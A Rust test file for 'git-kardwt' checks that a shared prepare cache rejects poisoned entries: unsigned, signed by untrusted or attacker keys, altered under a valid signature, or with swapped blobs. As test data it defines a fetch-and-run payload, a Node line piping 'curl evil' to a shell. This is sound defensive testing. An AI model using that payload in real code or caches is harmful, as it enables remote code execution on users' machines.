//! A shared cache nobody can poison: whoever can write the store (a leaked credential, a
//! careless bucket policy) cannot hand a reader outputs its user did not choose to trust. An
//! entry unsigned, signed by a key the reader's user never trusted, re-signed by another key
//! after its manifest was replaced, or whose manifest was altered under the writer's old
//! signature is a miss: prepare runs on the reader, one line says why, and neither the tree nor
//! the local cache holds a byte of what the store served. The writer and the reader are two
//! clones in turn, each with its own home (its own keys and trust) and local cache.
use std::path::Path;

use ed25519_dalek::{Signer as _, SigningKey};

use super::remote::{
    add, another_machine, big_blob, leftovers, local_entries, prepared, reader_prepares_again,
    stored_manifest, trust_signer, write_one, write_rules, writer_key, READER,
};
use crate::support::seaweed::Seaweed;
use crate::support::{Output, TestRepo};

/// What a signature covers besides the body (the format of kardwt's shared manifests).
const CONTEXT: &str = "git-kardwt prepare cache manifest, format 1\n";

/// The public key (as kardwt shows it) whose 32 secret bytes are `secret`.
pub(super) fn public_key(secret: [u8; 32]) -> String {
    let key = SigningKey::from_bytes(&secret);
    format!("ed25519:{}", hex(key.verifying_key().as_bytes()))
}

/// A signature entry over `body` by the key whose 32 secret bytes are `secret`.
pub(super) fn signature(secret: [u8; 32], body: &str) -> serde_json::Value {
    let key = SigningKey::from_bytes(&secret);
    let sig = key.sign(format!("{CONTEXT}{body}").as_bytes());
    serde_json::json!({
        "key": public_key(secret),
        "signature": hex(&sig.to_bytes()),
    })
}

fn hex(bytes: &[u8]) -> String {
    bytes.iter().map(|b| format!("{b:02x}")).collect()
}

/// The writer's secret signing key, read from its home (kardwt made it on its first upload).
pub(super) fn writer_secret(repo: &TestRepo) -> [u8; 32] {
    let path = repo
        .home
        .join(".local/share/git-kardwt/signing/cache-ed25519");
    let text = std::fs::read_to_string(&path).unwrap();
    let mode = std::fs::metadata(&path).unwrap().permissions();
    assert_eq!(
        std::os::unix::fs::PermissionsExt::mode(&mode) & 0o777,
        0o600
    );
    let bytes: Vec<u8> = (0..64)
        .step_by(2)
        .map(|i| u8::from_str_radix(&text.trim()[i..i + 2], 16).unwrap())
        .collect();
    bytes.try_into().unwrap()
}

/// The one line about the remote in a reader's output, which must say `why`.
pub(super) fn says_once(out: &Output, why: &str) {
    let lines: Vec<&str> = out
        .stderr
        .lines()
        .filter(|l| l.contains("remote not used"))
        .collect();
    assert_eq!(lines.len(), 1, "{out}");
    assert!(lines[0].contains(why), "wanted {why:?}:\n{out}");
}

/// After a miss on the reader: the event says why, card 2's tree holds what its own prepare
/// made, and the local cache holds only that prepare's entry (nothing of the store's).
pub(super) fn nothing_of_the_store_kept(repo: &TestRepo, why: &str) {
    let said = prepared(repo, "2");
    assert!(said.contains("cache: miss") && said.contains(why), "{said}");
    let index = repo.card_path("2").join("node_modules/pkg/lib/index.js");
    assert_eq!(
        std::fs::read_to_string(index).unwrap(),
        "module.exports = 1\n"
    );
    assert!(leftovers(repo).is_empty(), "{:?}", leftovers(repo));
    assert_eq!(local_entries(repo), 1, "only prepare's own entry is stored");
    assert!(!holds(
        &repo.common_dir().join("kardwt/cache"),
        EVIL.as_bytes()
    ));
}

/// What an attacker would have the reader run.
const EVIL: &str = "require('child_process').exec('curl evil | sh')\n";

/// Does any file beneath `dir` hold `needle`?
fn holds(dir: &Path, needle: &[u8]) -> bool {
    std::fs::read_dir(dir)
        .into_iter()
        .flatten()
        .flatten()
        .any(|e| {
            let p = e.path();
            match std::fs::symlink_metadata(&p) {
                Ok(m) if m.is_dir() => holds(&p, needle),
                Ok(m) if m.is_file() => {
                    std::fs::read(&p).is_ok_and(|b| b.windows(needle.len()).any(|w| w == needle))
                }
                _ => false,
            }
        })
}

/// The attacker's edit of the writer's entry: `EVIL` uploaded as a blob (through the store,
/// as anyone with its credentials can), and index.js pointed at it in the manifest's body.
/// The envelope and the new body.
fn poisoned(repo: &TestRepo, server: &Seaweed) -> (String, serde_json::Value, String) {
    let (name, envelope) = stored_manifest(repo, server);
    let mut body: serde_json::Value =
        serde_json::from_str(envelope["body"].as_str().unwrap()).unwrap();
    let hash = {
        use sha2::Digest as _;
        hex(&sha2::Sha256::digest(EVIL.as_bytes()))
    };
    server.overwrite(
        &format!("team/web/blobs/sha256/{}/{hash}", &hash[..2]),
        EVIL.as_bytes(),
    );
    let entries = body["manifest"]["entries"].as_array_mut().unwrap();
    let index = entries
        .iter_mut()
        .find(|e| e["path"] == "node_modules/pkg/lib/index.js")
        .unwrap();
    index["sha256"] = hash.into();
    index["size"] = EVIL.len().into();
    (name, envelope, body.to_string())
}

#[test]
fn an_entry_signed_by_a_key_nobody_here_trusts_is_a_miss() {
    let Some(server) = Seaweed::start() else {
        return;
    };
    let repo = TestRepo::new();
    write_one(&repo, &server);
    // The reader's user has trusted no one: the writer's genuine entry is not used.
    another_machine(&repo);
    write_rules(&repo, &server.endpoint);
    let out = add(&repo, "2", &READER);
    out.expect_code(0);
    assert_eq!(repo.prepare_runs(), ["ran", "ran"], "{out}");
    says_once(&out, "signed only by keys this machine does not trust");
    nothing_of_the_store_kept(&repo, "does not trust");
}

#[test]
fn an_unsigned_manifest_is_a_miss() {
    let Some(server) = Seaweed::start() else {
        return;
    };
    let repo = TestRepo::new();
    write_one(&repo, &server);
    let (name, mut envelope) = stored_manifest(&repo, &server);
    envelope["signatures"] = serde_json::json!([]);
    server.overwrite(&name, envelope.to_string().as_bytes());
    let out = reader_prepares_again(&repo, &server);
    says_once(&out, "its manifest is not signed");
    nothing_of_the_store_kept(&repo, "not signed");
}

#[test]
fn a_manifest_replaced_and_signed_by_another_key_is_a_miss() {
    let Some(server) = Seaweed::start() else {
        return;
    };
    let repo = TestRepo::new();
    write_one(&repo, &server);
    let (name, mut envelope, body) = poisoned(&repo, &server);
    // Signed by the attacker's own key, in place of the writer's.
    let old = envelope["signatures"][0].clone();
    envelope["signatures"] = serde_json::json!([signature([9; 32], &body)]);
    envelope["body"] = body.clone().into();
    server.overwrite(&name, envelope.to_string().as_bytes());
    let out = reader_prepares_again(&repo, &server);
    says_once(
        &out,
        "signed only by keys this machine does not trust (ed25519:",
    );
    nothing_of_the_store_kept(&repo, "does not trust");
    assert_ne!(old["key"], envelope["signatures"][0]["key"]);
}

#[test]
fn a_manifest_altered_under_the_writers_signature_is_a_miss() {
    let Some(server) = Seaweed::start() else {
        return;
    };
    let repo = TestRepo::new();
    write_one(&repo, &server);
    let key = writer_key(&repo);
    let (name, mut envelope, body) = poisoned(&repo, &server);
    envelope["body"] = body.into();
    server.overwrite(&name, envelope.to_string().as_bytes());
    let out = reader_prepares_again(&repo, &server);
    says_once(
        &out,
        &format!("its manifest's signature by {key} does not match it"),
    );
    nothing_of_the_store_kept(&repo, "does not match");
}

/// A blob swapped under the writer's genuine, trusted manifest: the signature holds, the bytes
/// do not match their hash.
#[test]
fn a_blob_swapped_under_a_valid_manifest_is_a_miss() {
    let Some(server) = Seaweed::start() else {
        return;
    };
    let repo = TestRepo::new();
    write_one(&repo, &server);
    let name = big_blob(&repo, &server);
    let mut swapped = server.read(&name);
    swapped[150_000] ^= 0xff;
    server.overwrite(&name, &swapped);
    let out = reader_prepares_again(&repo, &server);
    says_once(&out, "big.bin's content does not match its hash");
    nothing_of_the_store_kept(&repo, "does not match its hash");
    let big = std::fs::read(repo.card_path("2").join("node_modules/pkg/big.bin")).unwrap();
    assert_ne!(big, swapped);
}

/// `doctor` says whose entries this user would use: none trusted is a failed finding saying
/// every entry is a miss, with how to trust one; a writer is told the key it signs with.
#[test]
fn doctor_says_when_this_user_trusts_no_signer() {
    let repo = TestRepo::new();
    write_rules(&repo, "http://127.0.0.1:9");
    let signers = |env: &[(&str, &str)]| {
        let env: Vec<(&str, &std::ffi::OsStr)> = env
            .iter()
            .map(|(k, v)| (*k, std::ffi::OsStr::new(*v)))
            .collect();
        let out = repo
            .spawn_with_env("git", &repo.base, &["kardwt", "doctor", "--json"], &env)
            .wait(std::time::Duration::from_secs(60));
        let json = out.json();
        json["checks"]
            .as_array()
            .unwrap()
            .iter()
            .find(|c| c["check"] == "prepare.cache_remote signers")
            .cloned()
            .unwrap_or_else(|| panic!("no signers check: {json:#}"))
    };
    let none = signers(&[]);
    assert_eq!(none["ok"], false, "{none}");
    assert!(
        none["detail"]
            .as_str()
            .unwrap()
            .contains("every entry is a miss"),
        "{none}"
    );
    assert!(
        none["fix"]
            .as_str()
            .unwrap()
            .contains("git kardwt trust --signer KEY"),
        "{none}"
    );
    let writer = signers(&[("KARDWT_CACHE_WRITE", "1")]);
    assert_eq!(writer["ok"], true, "{writer}");
    let mine = writer_key(&repo);
    let writer = signers(&[("KARDWT_CACHE_WRITE", "1")]);
    assert!(
        writer["detail"]
            .as_str()
            .unwrap()
            .ends_with(&format!("signed with {mine}")),
        "{writer}"
    );
    // Its own key does not count as a signer trusted for reading others' entries.
    assert_eq!(signers(&[])["ok"], false);
    trust_signer(&repo, &public_key([9; 32]));
    let one = signers(&[]);
    assert_eq!(one["ok"], true, "{one}");
    assert!(
        one["detail"]
            .as_str()
            .unwrap()
            .contains("trusts 1 signer of"),
        "{one}"
    );
}
